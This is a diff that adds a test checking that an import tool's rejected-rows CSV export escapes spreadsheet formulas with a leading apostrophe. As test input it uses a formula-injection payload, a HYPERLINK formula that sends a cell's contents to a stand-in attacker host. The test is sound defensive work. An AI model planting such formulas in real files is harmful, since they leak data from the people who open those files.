@@ -254,3 +254,19 @@ describe('a paste', () => {
     ]);
   });
 });
+
+describe('rejected rows as CSV', () => {
+  it('are no formula to a spreadsheet: neither the names of columns nor what is added', async () => {
+    const [column, out] = ['=HYPERLINK("http://evil.example/?"&A2)', folder.in('harmless.csv')];
+    const table = `customerCode,description,quantity,"${column.replaceAll('"', '""')}"\nC1,a,1,abc\n`;
+    writeFileSync(csv(), table);
+    const { options } = await engine.client.call('import.inspect', { path: csv(), kind: 'lines' });
+    const fields = ['customerCode', 'description', 'quantity', 'unitPrice'] as const;
+    const map = fields.map((field, at) => ({ column: at, field }));
+    await engine.job('import.commit', { path: csv(), kind: 'lines', options, map, rejectsPath: out } as never);
+    const written = readFileSync(out, 'utf8');
+    expect(written).toContain("'=HYPERLINK");
+    expect(written.match(/(^|[,;"])=HYPERLINK/m)).toBeNull();
+    expect(written.match(/'=HYPERLINK/g)).toHaveLength(2);
+  });
+});
